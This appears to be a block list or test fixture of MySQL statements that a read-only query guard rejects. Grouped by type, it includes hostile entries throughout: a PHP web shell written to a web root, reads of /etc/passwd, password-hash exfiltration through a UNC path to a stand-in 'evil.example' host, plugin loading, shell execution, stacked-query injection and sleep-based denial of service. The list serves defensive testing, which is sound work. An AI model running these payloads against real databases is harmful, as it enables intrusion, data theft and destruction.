## statements that write, alone
INSERT INTO users VALUES (1)
INSERT INTO users SET admin = 1
REPLACE INTO users VALUES (1)
UPDATE users SET admin = 1
DELETE FROM users
DELETE users FROM users JOIN x ON true
TRUNCATE TABLE users
DROP DATABASE app
DROP TABLE users
CREATE TABLE x SELECT * FROM users
CREATE USER x IDENTIFIED BY 'y'
ALTER TABLE users ADD x int
RENAME TABLE users TO x
GRANT ALL ON *.* TO x
SET GLOBAL general_log_file = '/var/www/x.php'
SET @x = 1
SET PASSWORD = 'x'
SET sql_mode = ''
LOCK TABLES users WRITE
UNLOCK TABLES
FLUSH PRIVILEGES
KILL 1
CALL p()
DO SLEEP(5)
HANDLER users OPEN
LOAD DATA INFILE '/etc/passwd' INTO TABLE users
LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE users
LOAD XML INFILE '/x' INTO TABLE users
INSTALL PLUGIN x SONAME 'evil.so'
PREPARE x FROM 'DROP TABLE users'
EXECUTE x
OPTIMIZE TABLE users
ANALYZE TABLE users
START TRANSACTION
COMMIT
USE mysql
SHOW GRANTS
DESCRIBE users
EXPLAIN DELETE FROM users
## writes inside queries: https://dev.mysql.com/doc/refman/8.4/en/select-into.html
SELECT * FROM users INTO OUTFILE '/var/www/x.php'
SELECT '<?php system($_GET[0]); ?>' INTO OUTFILE '/var/www/x.php'
SELECT 'x' INTO DUMPFILE '/usr/lib/mysql/plugin/x.so'
SELECT * INTO OUTFILE '/tmp/x' FROM users
SELECT id INTO @x FROM users LIMIT 1
SELECT @x := 1
SELECT @x := password FROM users
SELECT 1 WHERE (@x := 5) = 5
SELECT * FROM users FOR UPDATE
SELECT * FROM users FOR SHARE
SELECT * FROM users LOCK IN SHARE MODE
SELECT * FROM users FOR UPDATE NOWAIT
SELECT * FROM (SELECT * FROM users FOR UPDATE) AS x
WITH x AS (SELECT 1) DELETE FROM users
WITH x AS (SELECT 1) UPDATE users SET admin = 1
## bytebase/dbhub#284: what MySQL runs and others skip (https://dev.mysql.com/doc/refman/8.4/en/comments.html)
SELECT 1 /*! INTO OUTFILE '/tmp/x' */
SELECT /*!50000 SLEEP(5) */
SELECT 1 /*!50000 , LOAD_FILE('/etc/passwd') */
/*! DELETE FROM users */
SELECT 1 /*! UNION SELECT user, authentication_string FROM mysql.user */
/*!50000 DROP TABLE users */
SELECT 1 /*M! , SLEEP(5) */
SELECT/*!99999 1*/1 /*! ; DROP TABLE users */
## stacked and hidden
SELECT 1; DROP TABLE users
SELECT 1;#\nDROP TABLE users
SELECT 1 # x\n; DELETE FROM users
SELECT 1 -- x\n; DELETE FROM users
SELECT 1 /* /* */ ; DROP TABLE users -- */
SELECT '\\''; DROP TABLE users; -- '
SELECT "a\\"; SELECT 1; -- "; DROP TABLE users
## functions: https://dev.mysql.com/doc/refman/8.4/en/string-functions.html#function_load-file
SELECT LOAD_FILE('/etc/passwd')
SELECT load_file(0x2f6574632f706173737764)
SELECT LOAD_FILE(CONCAT('\\\\\\\\', (SELECT password FROM users LIMIT 1), '.evil.example\\\\x'))
SELECT * FROM users WHERE name = LOAD_FILE('/etc/passwd')
SELECT SLEEP(5)
SELECT sleep (5)
SELECT `sleep`(5)
SELECT IF(1 = 1, SLEEP(5), 0)
SELECT * FROM users WHERE id = 1 AND SLEEP(5)
SELECT BENCHMARK(100000000, MD5('x'))
SELECT GET_LOCK('x', 100)
SELECT RELEASE_ALL_LOCKS()
SELECT MASTER_POS_WAIT('x', 1)
SELECT WAIT_FOR_EXECUTED_GTID_SET('x')
SELECT sys_exec('id')
SELECT sys_eval('id')
SELECT keyring_key_fetch('x')
SELECT SETVAL(s, 1)
SELECT NEXTVAL(s)
SELECT REPEAT('x', 1000000000)
SELECT SPACE(1000000000)
SELECT LPAD('x', 1000000000, 'y')
SELECT /*+ SET_VAR(max_execution_time = 0) */ * FROM users
